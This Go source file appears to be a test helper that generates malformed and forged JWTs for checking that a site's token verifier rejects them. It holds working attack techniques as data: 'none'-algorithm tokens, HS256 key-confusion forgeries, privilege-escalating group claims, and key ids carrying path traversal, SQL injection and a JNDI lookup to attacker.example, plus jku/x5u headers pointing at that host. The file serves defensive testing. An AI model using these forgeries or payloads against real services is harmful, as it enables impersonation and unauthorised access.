package localissuer

import (
	"bytes"
	"context"
	"crypto/rand"
	"crypto/rsa"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"maps"
	"strings"
	"time"

	"github.com/go-jose/go-jose/v4"
)

// Claims returns the claims of a good token of alice, for an audience and a site, that is valid for an
// hour.
func (i *Issuer) Claims(audience, siteID string) map[string]any {
	now := time.Now().Unix()
	return map[string]any{
		"iss": i.URL, "sub": "alice", "aud": []string{audience}, "site": siteID,
		"groups": []string{"vets"}, "iat": now, "exp": now + 3600,
	}
}

// SignClaims signs claims with the newest key.
func (i *Issuer) SignClaims(ctx context.Context, claims map[string]any) (string, error) {
	content, err := json.Marshal(claims)
	if err != nil {
		return "", err
	}
	return i.Sign(ctx, Order{Claims: content})
}

// With returns a copy of claims with one of them changed, or removed if value is nil.
func With(claims map[string]any, name string, value any) map[string]any {
	changed := maps.Clone(claims)
	changed[name] = value
	if value == nil {
		delete(changed, name)
	}
	return changed
}

// ForeignTokens has the names of those BadTokens whose issuer is not an issuer of the site, or that
// have no issuer. The last five are not JWTs.
var ForeignTokens = []string{
	"another issuer", "the issuer with a slash", "the issuer without TLS", "no issuer", "an issuer that is a list",
	"the cluster's issuer, not by it",
	"two parts", "four parts", "five parts", "JSON", "one word",
}

// BadTokens returns tokens that a site must refuse, by what is wrong with them. claims are those of a
// token of i that the site accepts; the site must check each of them. other is an issuer that the site
// does not know, and that uses the same key ids. audience is the audience that tokens of the cluster
// need.
func (i *Issuer) BadTokens(ctx context.Context, claims map[string]any, other *Issuer, audience string) (map[string]string, error) {
	attacker, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		return nil, err
	}
	set, err := i.Keys(ctx)
	if err != nil {
		return nil, err
	}
	f := &forger{tokens: map[string]string{}, claims: claims, key: set.Keys[0], attacker: attacker}
	if err := f.signed(ctx, i, other, audience); err != nil {
		return nil, err
	}
	if err := f.confused(); err != nil {
		return nil, err
	}
	good, err := i.SignClaims(ctx, claims)
	if err != nil {
		return nil, err
	}
	f.damaged(good)
	return f.tokens, nil
}

type forger struct {
	tokens   map[string]string
	claims   map[string]any
	key      jose.JSONWebKey
	attacker *rsa.PrivateKey
}

// signed makes tokens with valid signatures and a wrong header or wrong claims.
func (f *forger) signed(ctx context.Context, i, other *Issuer, audience string) error {
	now := time.Now().Unix()
	var many []string
	for n := range 800 {
		many = append(many, fmt.Sprint("a", n))
	}
	wrong := map[string]map[string]any{
		"expired":                         With(f.claims, "exp", now-3600),
		"expired a minute ago":            With(f.claims, "exp", now-60),
		"no expiry":                       With(f.claims, "exp", nil),
		"an expiry in words":              With(f.claims, "exp", "tomorrow"),
		"an expiry beyond all time":       With(f.claims, "exp", 1e300),
		"an expiry in another case":       With(With(f.claims, "exp", nil), "Exp", now+3600),
		"valid from tomorrow":             With(f.claims, "nbf", now+86400),
		"valid in an hour":                With(f.claims, "nbf", now+3600),
		"nbf in words":                    With(f.claims, "nbf", "now"),
		"issued tomorrow":                 With(f.claims, "iat", now+86400),
		"another audience":                With(f.claims, "aud", "elm"),
		"no audience":                     With(f.claims, "aud", nil),
		"an empty list of audiences":      With(f.claims, "aud", []string{}),
		"an audience in capitals":         With(f.claims, "aud", strings.ToUpper(fmt.Sprint(f.claims["aud"]))),
		"an audience that is a number":    With(f.claims, "aud", 7),
		"audiences with a number":         With(f.claims, "aud", []any{f.claims["aud"], 7}),
		"800 audiences":                   With(f.claims, "aud", append(many, f.claims["aud"].([]string)...)),
		"no subject":                      With(f.claims, "sub", nil),
		"an empty subject":                With(f.claims, "sub", ""),
		"a subject that is a number":      With(f.claims, "sub", 7),
		"a subject with a line break":     With(f.claims, "sub", "alice\nroot"),
		"a subject of the system":         With(f.claims, "sub", "system:admin"),
		"a group of the system":           With(f.claims, "groups", []string{"vets", "system:masters"}),
		"one group, of the system":        With(f.claims, "groups", "system:masters"),
		"groups that are a number":        With(f.claims, "groups", 7),
		"groups with a number":            With(f.claims, "groups", []any{"vets", 7}),
		"a group with a NUL":              With(f.claims, "groups", []string{"vets\x00"}),
		"a group without a name":          With(f.claims, "groups", []string{""}),
		"no site":                         With(f.claims, "site", nil),
		"another site":                    With(f.claims, "site", "elm"),
		"a site that is a number":         With(f.claims, "site", 7),
		"other sites":                     With(f.claims, "site", []string{"elm", "ash"}),
		"scopes that are a number":        With(f.claims, "scope", 7),
		"a patient that is a list":        With(f.claims, "patient", []string{"rex"}),
		"longer than 16 KiB":              With(f.claims, "picture", strings.Repeat("x", 13<<10)),
		"40 KiB long":                     With(f.claims, "picture", strings.Repeat("x", 30<<10)),
		"the issuer with a slash":         With(With(f.claims, "iss", i.URL+"/"), "aud", audience),
		"the issuer without TLS":          With(With(f.claims, "iss", strings.Replace(i.URL, "https", "http", 1)), "aud", audience),
		"no issuer":                       With(With(f.claims, "iss", nil), "aud", audience),
		"an issuer that is a list":        With(With(f.claims, "iss", []string{i.URL}), "aud", audience),
		"the cluster's issuer, not by it": With(With(f.claims, "iss", "https://kubernetes.default.svc.cluster.local"), "aud", audience),
	}
	for name, claims := range wrong {
		token, err := i.SignClaims(ctx, claims)
		if err != nil {
			return err
		}
		f.tokens[name] = token
	}
	good, err := json.Marshal(f.claims)
	if err != nil {
		return err
	}
	twice := bytes.Replace(good, []byte(`{`), []byte(`{"iss":"https://kubernetes.default.svc.cluster.local",`), 1)
	for name, order := range map[string]Order{
		"a logout token":            {Header: map[string]any{"typ": "logout+jwt"}, Claims: good},
		"a critical header":         {Header: map[string]any{"crit": []string{"exp"}}, Claims: good},
		"a critical header, known":  {Header: map[string]any{"crit": []string{"b64"}, "b64": true}, Claims: good},
		"the key's other algorithm": {Header: map[string]any{"alg": "RS512"}, Claims: good},
		"the key's other padding":   {Header: map[string]any{"alg": "PS256"}, Claims: good},
		"two issuers":               {Claims: twice},
		"claims that are a list":    {Claims: json.RawMessage("[" + string(good) + "]")},
		"claims that are a word":    {Claims: json.RawMessage(`"alice"`)},
	} {
		token, err := i.Sign(ctx, order)
		if err != nil {
			return fmt.Errorf("%s: %w", name, err)
		}
		f.tokens[name] = token
	}
	if f.tokens["another issuer's signature, with its key id"], err = other.SignClaims(ctx, f.claims); err != nil {
		return err
	}
	f.tokens["another issuer"], err = other.SignClaims(ctx, With(With(f.claims, "iss", other.URL), "aud", audience))
	return err
}

// confused makes tokens that try to choose how they are verified.
func (f *forger) confused() error {
	for _, none := range []string{"none", "None", "NONE", "nOnE", "none ", ""} {
		f.unsigned("algorithm "+fmt.Sprintf("%q", none), map[string]any{"alg": none, "kid": f.key.KeyID}, "")
		f.unsigned("algorithm "+fmt.Sprintf("%q", none)+", with a signature", map[string]any{"alg": none, "kid": f.key.KeyID}, "c2ln")
	}
	f.unsigned("no algorithm", map[string]any{"kid": f.key.KeyID}, "c2ln")
	f.unsigned("an algorithm that is a list", map[string]any{"alg": []string{"RS256"}, "kid": f.key.KeyID}, "c2ln")
	public, ok := f.key.Key.(*rsa.PublicKey)
	if !ok {
		return fmt.Errorf("the first published key is a %T, want an RSA key", f.key.Key)
	}
	der, err := x509.MarshalPKIXPublicKey(public)
	if err != nil {
		return err
	}
	jwk, err := f.key.MarshalJSON()
	if err != nil {
		return err
	}
	for name, secret := range map[string][]byte{
		"DER":            der,
		"PEM":            pem.EncodeToMemory(&pem.Block{Type: "PUBLIC KEY", Bytes: der}),
		"PEM of PKCS #1": pem.EncodeToMemory(&pem.Block{Type: "RSA PUBLIC KEY", Bytes: x509.MarshalPKCS1PublicKey(public)}),
		"JWK":            jwk,
		"modulus":        public.N.Bytes(),
	} {
		if err := f.forge("HS256 with the public key as "+name, jose.HS256, secret, map[string]any{"kid": f.key.KeyID}); err != nil {
			return err
		}
	}
	for name, keyID := range map[string]string{
		"a path": "../../../../../../dev/null", "SQL": "x' UNION SELECT 'secret' --", "a URL": "https://attacker.example/keys.json",
		"a NUL": f.key.KeyID + "\x00", "a template": "${jndi:ldap://attacker.example}", "100 KiB, nearly": strings.Repeat("k", 11<<10),
	} {
		if err := f.forge("a key id that is "+name, jose.RS256, f.attacker, map[string]any{"kid": keyID}); err != nil {
			return err
		}
	}
	own := jose.JSONWebKey{Key: f.attacker.Public(), KeyID: f.key.KeyID, Algorithm: "RS256"}
	for name, header := range map[string]map[string]any{
		"a key of its own":                   {"jwk": own},
		"the address of keys":                {"jku": "https://attacker.example/keys.json"},
		"the address of a certificate":       {"x5u": "https://attacker.example/key.crt"},
		"the signature of somebody else":     {},
		"a key of its own, and no key named": {"jwk": own, "kid": ""},
	} {
		all := map[string]any{"kid": f.key.KeyID}
		maps.Copy(all, header)
		if err := f.forge(name, jose.RS256, f.attacker, all); err != nil {
			return err
		}
	}
	return nil
}

// forge makes a token of the claims that is signed with another key than the issuer's.
func (f *forger) forge(name string, algorithm jose.SignatureAlgorithm, key any, header map[string]any) error {
	options := &jose.SignerOptions{}
	for name, value := range header {
		options.WithHeader(jose.HeaderKey(name), value)
	}
	signer, err := jose.NewSigner(jose.SigningKey{Algorithm: algorithm, Key: key}, options)
	if err != nil {
		return err
	}
	content, err := json.Marshal(f.claims)
	if err != nil {
		return err
	}
	signed, err := signer.Sign(content)
	if err != nil {
		return err
	}
	f.tokens[name], err = signed.CompactSerialize()
	return err
}

// unsigned makes a token of the claims with the given header and signature.
func (f *forger) unsigned(name string, header map[string]any, signature string) {
	f.tokens[name] = encode(header) + "." + encode(f.claims) + "." + signature
}

// damaged makes tokens by changing, adding to or cutting a good token.
func (f *forger) damaged(good string) {
	parts := strings.Split(good, ".")
	changed := With(f.claims, "sub", "mallory")
	f.tokens["no signature"] = parts[0] + "." + parts[1] + "."
	f.tokens["two parts"] = parts[0] + "." + parts[1]
	f.tokens["four parts"] = good + ".x"
	f.tokens["five parts"] = good + ".x.y"
	f.tokens["half a signature"] = good[:len(good)-len(parts[2])/2]
	f.tokens["another subject under the signature"] = parts[0] + "." + encode(changed) + "." + parts[2]
	f.tokens["a padded signature"] = good + "="
	f.tokens["a signature of zeros"] = parts[0] + "." + parts[1] + "." + strings.Repeat("A", len(parts[2]))
	f.tokens["a header twice"] = base64.RawURLEncoding.EncodeToString([]byte(`{"alg":"none","alg":"RS256","kid":"`+f.key.KeyID+`"}`)) + "." + parts[1] + "." + parts[2]
	f.tokens["JSON"] = `{"protected":"` + parts[0] + `","payload":"` + parts[1] + `","signature":"` + parts[2] + `"}`
	f.tokens["one word"] = "letmein"
	f.tokens["dots"] = ".."
}

func encode(value any) string {
	content, err := json.Marshal(value)
	if err != nil {
		panic(err) // the maps here have only strings, numbers and lists
	}
	return base64.RawURLEncoding.EncodeToString(content)
}
